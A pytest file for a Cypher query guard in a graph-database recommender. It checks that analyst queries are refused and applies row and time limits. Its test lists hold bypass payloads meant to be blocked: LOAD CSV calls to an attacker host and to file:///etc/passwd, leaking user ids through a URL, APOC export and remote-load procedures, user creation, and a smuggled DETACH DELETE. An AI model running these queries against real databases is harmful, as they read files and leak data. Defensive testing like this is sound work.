"""The analyst-query guard (kgrec.kg.stores.guard): LOAD CSV and outside-reaching procedures are
refused whatever the spelling (case, comments, odd white space, backticks), look-alikes in strings,
names and comments pass; the row limit goes where the planner honours it; the time limits."""

from __future__ import annotations

import pytest

from kgrec.errors import ConfigError, ForbiddenQueryError, ReadOnlyQueryError, StoreError
from kgrec.kg.stores.guard import check_analyst_query, find_write_clause, limit_rows, resolve_limits, tokenize

LOAD_CSV_BYPASSES = [
    "LOAD CSV FROM 'http://attacker.example/x' AS r RETURN r",
    "load csv from 'file:///etc/passwd' as r return r",
    "LoAd CsV WITH HEADERS FROM 'http://x' AS r RETURN r",
    "LOAD/* a comment */CSV FROM 'http://x' AS r RETURN r",
    "LOAD // a line comment\nCSV FROM 'http://x' AS r RETURN r",
    "LOAD\n\t CSV FROM 'http://x' AS r RETURN r",
    "LOAD\u00a0CSV FROM 'http://x' AS r RETURN r",  # no-break space
    "LOAD\u2003CSV FROM 'http://x' AS r RETURN r",  # em space
    "LOAD\u200bCSV FROM 'http://x' AS r RETURN r",  # zero-width space
    "`LOAD` `CSV` FROM 'http://x' AS r RETURN r",
    "MATCH (u:User) WITH u LOAD CSV FROM 'http://x/' + u.id AS r RETURN r",  # exfiltration through the URL
    "CALL { LOAD CSV FROM 'http://x' AS r RETURN r } RETURN r",
    "USING PERIODIC COMMIT LOAD CSV FROM 'http://x' AS r RETURN r",
]

FORBIDDEN_PROCEDURES = [
    "CALL apoc.load.json('http://x') YIELD value RETURN value",
    "call APOC.LOAD.JSON('http://x')",
    "CALL apoc . load . json('http://x')",
    "CALL apoc./**/load.json('http://x')",
    "CALL `apoc`.`load`.`json`('http://x')",
    "CALL `apoc.load.json`('http://x')",
    "CALL apoc.import.csv([{fileName: 'file:///x', labels: ['X']}], [], {})",
    "CALL apoc.export.csv.all('/tmp/x.csv', {})",
    "CALL apoc.bolt.load('bolt://other', 'MATCH (n) RETURN n', {})",
    "CALL dbms.listConfig()",
    "CALL dbms.security.createUser('x', 'y', false)",
    "CALL db.clearQueryCaches()",
    "MATCH (n) CALL apoc.cypher.runTimeboxed('LOAD CSV FROM \"http://x\" AS r RETURN r', {}, 10) YIELD value "
    "RETURN value",
]

FORBIDDEN_OTHER = [
    "RETURN apoc.util.sleep(100000)",
    "RETURN apoc.static.get('x')",
    "RETURN `apoc.util`.`sleep`(100)",
    "SHOW USERS",
    "show transactions",
    "TERMINATE TRANSACTIONS 'neo4j-transaction-1'",
    "USE system SHOW DATABASES",
    "USE other MATCH (n) RETURN n",
    "MATCH (n) RETURN n; MATCH (m) DETACH DELETE m",
]


@pytest.mark.parametrize("query", LOAD_CSV_BYPASSES)
def test_load_csv_is_forbidden_however_it_is_spelt(query):
    with pytest.raises(ForbiddenQueryError, match="LOAD CSV"):
        check_analyst_query(query, check_writes=False)


@pytest.mark.parametrize("query", FORBIDDEN_PROCEDURES)
def test_procedures_outside_the_allow_list_are_forbidden(query):
    with pytest.raises(ForbiddenQueryError):
        check_analyst_query(query, check_writes=False)


@pytest.mark.parametrize("query", FORBIDDEN_OTHER)
def test_functions_administration_use_and_several_statements_are_forbidden(query):
    with pytest.raises(ForbiddenQueryError):
        check_analyst_query(query, check_writes=False)


@pytest.mark.parametrize("query", [
    "CALL db.idx.fulltext.createNodeIndex('User', 'name')",
    "CALL db.createLabel('X')",
    "CALL apoc.create.node(['X'], {})",
    "CALL apoc.periodic.iterate('MATCH (n) RETURN n', 'DETACH DELETE n', {})",
    "CALL gds.pageRank.write('g', {})",
])
def test_procedures_that_write_are_read_only_errors(query):
    with pytest.raises(ReadOnlyQueryError, match="writes"):
        check_analyst_query(query, check_writes=False)


@pytest.mark.parametrize("query", [
    "MATCH (n:User) RETURN n.id",
    "MATCH (n) WHERE n.name = 'LOAD CSV FROM x' RETURN n",  # in a string
    'MATCH (n) WHERE n.name = "CALL apoc.load.json(x)" RETURN n',
    "// LOAD CSV FROM 'http://x'\nMATCH (n) RETURN count(n)",  # in a comment
    "/* CALL dbms.listConfig() */ MATCH (n) RETURN count(n)",
    "MATCH (n) RETURN n.load, n.csv",  # properties
    "MATCH (n) RETURN n.`LOAD CSV` AS x",  # a quoted property
    "MATCH (l:Load)-[:CSV]->(c) RETURN count(c)",  # a label and a relation type
    "CALL db.labels()",
    "CALL db.labels() YIELD label RETURN label",
    "CALL DB.RELATIONSHIPTYPES()",
    "MATCH (a:Artist {id: $id}) CALL db.idx.vector.queryNodes('Artist', 'embedding', $k, a.embedding) "
    "YIELD node, score RETURN node.id, score",
    "MATCH (a) CALL db.index.vector.queryNodes($index, 5, a.embedding) YIELD node RETURN node",
    "CALL algo.pageRank('User', 'FRIEND_OF') YIELD node, score RETURN node.id, score",
    "RETURN date.truncate('day', date()), point.distance(point({x: 1, y: 2}), point({x: 2, y: 2}))",
    "RETURN apoc.text.join(['a', 'b'], ',') AS t",
    "RETURN vec.cosineDistance(vecf32([1.0]), vecf32([1.0]))",
    "MATCH (n) RETURN toLower(n.name), count(*), collect(n.id)[0..2]",
    "CALL { MATCH (n:User) RETURN n LIMIT 2 } RETURN n.id",
    "MATCH (n) RETURN n;",  # one trailing semicolon
])
def test_reads_pass(query):
    assert check_analyst_query(query)


def test_write_clauses_are_refused_where_asked_and_look_alikes_pass():
    for query in ("match (n) set n.x = 1", "MATCH (n)\n/* read */ detach\tdelete n", "CREATE (n:X)",
                  "MATCH (n) CALL { WITH n SET n.x = 1 } IN TRANSACTIONS"):
        with pytest.raises(ReadOnlyQueryError):
            check_analyst_query(query)
        assert check_analyst_query(query, check_writes=False)  # FalkorDB refuses writes itself
    assert find_write_clause("MATCH (n) RETURN n.set, {merge: 1}, $delete") is None


def test_the_tokeniser_keeps_strings_names_and_params_whole():
    tokens = tokenize("MATCH (n {id: 'a // b /* c'}) WHERE n.`x``y` = $`p q` // tail\nRETURN n")
    kinds = [(t.kind, t.text) for t in tokens]
    assert ("string", "a // b /* c") in kinds
    assert ("name", "x`y") in kinds
    assert ("param", "p q") in kinds
    assert ("word", "tail") not in kinds
    with pytest.raises(StoreError, match="never closed"):
        tokenize("MATCH (n) WHERE n.x = 'open RETURN n")
    with pytest.raises(StoreError, match="never closed"):
        tokenize("MATCH (n) /* open RETURN n")


@pytest.mark.parametrize("query, expected", [
    ("MATCH (n) RETURN n", "MATCH (n) RETURN n LIMIT 11"),
    ("MATCH (n) RETURN n ORDER BY n.id SKIP 3", "MATCH (n) RETURN n ORDER BY n.id SKIP 3 LIMIT 11"),
    ("MATCH (n) RETURN n LIMIT 1000000", "MATCH (n) RETURN n LIMIT 11"),
    ("MATCH (n) RETURN n LIMIT 5", "MATCH (n) RETURN n LIMIT 5"),
    ("MATCH (n) RETURN n // all of them", "MATCH (n) RETURN n LIMIT 11 // all of them"),
    ("MATCH (n) RETURN n;", "MATCH (n) RETURN n LIMIT 11;"),
    ("MATCH (n) CALL { MATCH (m) RETURN m LIMIT 500 } RETURN n, m", "MATCH (n) CALL { MATCH (m) RETURN m LIMIT 500 } "
                                                                  "RETURN n, m LIMIT 11"),
    ("UNWIND range(1, 3000000) AS i RETURN i", "UNWIND range(1, 3000000) AS i RETURN i LIMIT 11"),
    ("RETURN 1 AS x UNION RETURN 2 AS x", "RETURN 1 AS x UNION RETURN 2 AS x"),  # left to the reader's cut
    ("CALL db.labels()", "CALL db.labels()"),
    ("MATCH (n) RETURN n LIMIT toInteger($k)", "MATCH (n) RETURN n LIMIT toInteger($k)"),
])
def test_the_row_limit_goes_on_the_final_return(query, expected):
    assert limit_rows(query, 11) == expected


def test_a_parameter_limit_is_lowered_by_its_value():
    assert limit_rows("MATCH (n) RETURN n LIMIT $k", 11, {"k": 10**9}) == "MATCH (n) RETURN n LIMIT 11"
    assert limit_rows("MATCH (n) RETURN n LIMIT $k", 11, {"k": 3}) == "MATCH (n) RETURN n LIMIT $k"


def test_time_and_row_limits():
    assert resolve_limits(None, None, default_timeout=10, max_timeout=300, default_rows=100) == (10.0, 100)
    assert resolve_limits(2.5, 7, default_timeout=10, max_timeout=300, default_rows=100) == (2.5, 7)
    for bad in (0, -1, float("nan"), float("inf"), "10", True):
        with pytest.raises(ConfigError, match="not a positive number"):
            resolve_limits(bad, None, default_timeout=10, max_timeout=300, default_rows=100)
    with pytest.raises(ConfigError, match="above the hard maximum of 300 s"):
        resolve_limits(301, None, default_timeout=10, max_timeout=300, default_rows=100)
    for bad in (0, -5, 1.5, True):
        with pytest.raises(ConfigError, match="max_rows"):
            resolve_limits(None, bad, default_timeout=10, max_timeout=300, default_rows=100)


def test_a_return_of_aggregates_only_gets_no_limit():
    # one row anyway; FalkorDB answers `MATCH ()-[r:T]->() RETURN count(r)` from its statistics in
    # well under a millisecond, and scans every edge (~80 ms on lastfm) once a LIMIT follows it
    assert limit_rows("MATCH ()-[r:X]->() RETURN count(r) AS n", 10) == "MATCH ()-[r:X]->() RETURN count(r) AS n"
    assert limit_rows("MATCH (n) RETURN count(n), sum(n.x) AS s", 10) == "MATCH (n) RETURN count(n), sum(n.x) AS s"
    assert limit_rows("MATCH (n) RETURN n.a, count(n)", 10).endswith("LIMIT 10")  # grouped: many rows
    assert limit_rows("MATCH (n) RETURN count", 10).endswith("LIMIT 10")  # a variable named count
    assert limit_rows("MATCH (n) WITH count(n) AS c UNWIND range(1, c) AS i RETURN i", 10).endswith("LIMIT 10")
